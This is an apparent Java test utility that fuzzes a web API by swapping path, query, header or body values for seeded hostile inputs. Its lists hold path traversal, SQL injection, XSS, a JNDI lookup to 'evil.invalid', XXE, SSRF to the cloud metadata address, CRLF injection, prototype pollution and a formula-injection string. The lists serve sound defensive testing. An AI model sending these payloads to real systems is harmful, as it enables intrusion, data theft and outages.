package org.linli.it.isolation;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.random.RandomGenerator;
import org.linli.it.isolation.Api.Operation;

/**
 * Makes a request that nobody honest sends out of one that the operation takes: a word of the path,
 * of the query, of a header or of the body is replaced by something that breaks parsers, databases,
 * calendars and logs. The same seed makes the same requests.
 */
final class Hostile {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final int DEEP = 5_000;
  private static final int LONG = 3_000;

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "0",
          "-1",
          "9223372036854775808",
          "1e999999999",
          "NaN",
          "null",
          "true",
          "[]",
          "{}",
          "\u0000",
          "a\u0000b",
          "\ud83d\udca9",
          "\u202Eevil\u202C",
          "ﷺ".repeat(50),
          "x".repeat(LONG),
          "..",
          "../../../../etc/passwd",
          "..\\..\\secrets\\db.properties",
          "' or '1'='1",
          "1); drop table matter; --",
          "%",
          "%' escape '",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.invalid/a}",
          "#{7*7}${7*7}",
          "(a+)+$",
          "a\r\nSet-Cookie: evil=1",
          "0000-00-00",
          "9999-99-99",
          "+999999999-12-31T23:59:59Z",
          "-999999999-01-01",
          "2026-02-30T25:61:00+99:00",
          "P9999999999D",
          "00000000-0000-0000-0000-000000000000",
          "FFFFFFFF-ffff-FFFF-ffff-FFFFFFFFFFFFF",
          "https://169.254.169.254/latest/meta-data",
          "file:///etc/passwd",
          "=cmd|' /C calc'!A0");

  /** What stands in place of a whole body. */
  private static final List<String> BODIES =
      List.of(
          "",
          "null",
          "0",
          "\"text\"",
          "[]",
          "{}",
          "[null]",
          "[{}]",
          "{",
          "{\"a\":",
          "\u0000",
          "[".repeat(DEEP),
          "{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP),
          "{\"a\":1e999999999}",
          "{\"__proto__\":{\"admin\":true}}",
          "{\"a\":1,\"a\":2}",
          "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
          "{\"a\":\"\\ud800\"}",
          "a=1&b=2");

  private static final List<Map<String, String>> HEADERS =
      List.of(
          Map.of("Content-Type", "text/plain"),
          Map.of("Content-Type", "application/xml"),
          Map.of("Content-Type", "multipart/form-data"),
          Map.of("Content-Type", "nonsense"),
          Map.of("Content-Type", "application/json; charset=utf-7"),
          Map.of("Accept", "nonsense"),
          Map.of("Accept", "image/png"),
          Map.of("Accept-Language", "x".repeat(LONG)),
          Map.of("Accept-Language", "zz-ZZ;q=nonsense"),
          Map.of("X-HTTP-Method-Override", "DELETE"),
          Map.of("traceparent", "00-nonsense"),
          Map.of("X-Forwarded-For", "127.0.0.1, ' or 1=1"),
          Map.of("Range", "bytes=9-1"),
          Map.of("If-None-Match", "\"\u00e4"),
          Map.of("Idempotency-Key", "x".repeat(LONG)));

  private final RandomGenerator chance;

  Hostile(RandomGenerator chance) {
    this.chance = chance;
  }

  /** One request: what it is sent to, with which body (null for none) and which headers. */
  record Request(String address, String body, Map<String, String> headers) {}

  /** Spoils one part of what the operation takes; what it has none of is left as it is. */
  Request spoil(Operation operation, Map<String, String> things) {
    var address = Feeding.address(operation, things);
    var body = Feeding.body(operation);
    var parts = new ArrayList<>(List.of(0));
    if (operation.addressed()) {
      parts.add(1);
    }
    if (!operation.inQuery().isEmpty()) {
      parts.addAll(List.of(2, 2));
    }
    if (body != null) {
      parts.addAll(List.of(3, 4, 4, 4, 4));
    }
    return switch (any(parts)) {
      case 1 -> new Request(otherThing(operation, things), body, Map.of());
      case 2 -> new Request(otherWord(operation, address), body, Map.of());
      case 3 -> new Request(address, any(BODIES), Map.of());
      case 4 -> new Request(address, spoiltBody(body), Map.of());
      default -> new Request(address, body, any(HEADERS));
    };
  }

  private String otherThing(Operation operation, Map<String, String> things) {
    var others = new HashMap<>(things);
    others.put(Feeding.thing(operation, any(operation.inPath())), encoded(any(TEXTS)));
    return Feeding.address(operation, others);
  }

  private String otherWord(Operation operation, String address) {
    var name = any(operation.inQuery());
    var without = address.replaceAll("([?&])" + name + "=[^&]*", "$1");
    return without + (without.contains("?") ? "&" : "?") + name + "=" + encoded(any(TEXTS));
  }

  private String spoiltBody(String body) {
    try {
      var tree = JSON.readTree(body);
      var holders = new ArrayList<JsonNode>();
      collect(tree, holders);
      if (holders.isEmpty()) {
        return any(BODIES);
      }
      spoil(any(holders));
      return JSON.writeValueAsString(tree);
    } catch (IOException e) {
      // A sheet, or a form: any text does.
      return body + any(TEXTS);
    }
  }

  private void spoil(JsonNode holder) {
    switch (holder) {
      case ObjectNode object -> {
        var names = new ArrayList<String>();
        object.fieldNames().forEachRemaining(names::add);
        var name = any(names);
        switch (chance.nextInt(5)) {
          case 0 -> object.remove(name);
          case 1 -> object.set(any(TEXTS), NODES.textNode("x"));
          default -> object.set(name, value());
        }
      }
      case ArrayNode array -> {
        if (chance.nextBoolean()) {
          array.set(chance.nextInt(array.size()), value());
        } else {
          var one = array.get(0);
          for (int i = 0; i < LONG; i++) {
            array.add(one);
          }
        }
      }
      default -> throw new IllegalArgumentException(holder.toString());
    }
  }

  private JsonNode value() {
    return switch (chance.nextInt(8)) {
      case 0 -> NODES.nullNode();
      case 1 -> NODES.numberNode(-1);
      case 2 -> NODES.numberNode(Long.MAX_VALUE);
      case 3 -> NODES.numberNode(1e308);
      case 4 -> NODES.booleanNode(true);
      case 5 -> NODES.arrayNode().add(NODES.nullNode());
      case 6 -> NODES.objectNode().put("a", "b");
      default -> NODES.textNode(any(TEXTS));
    };
  }

  private static void collect(JsonNode node, List<JsonNode> holders) {
    if (node.isContainerNode() && !node.isEmpty()) {
      holders.add(node);
    }
    node.forEach(child -> collect(child, holders));
  }

  private <T> T any(List<T> of) {
    return of.get(chance.nextInt(of.size()));
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }
}
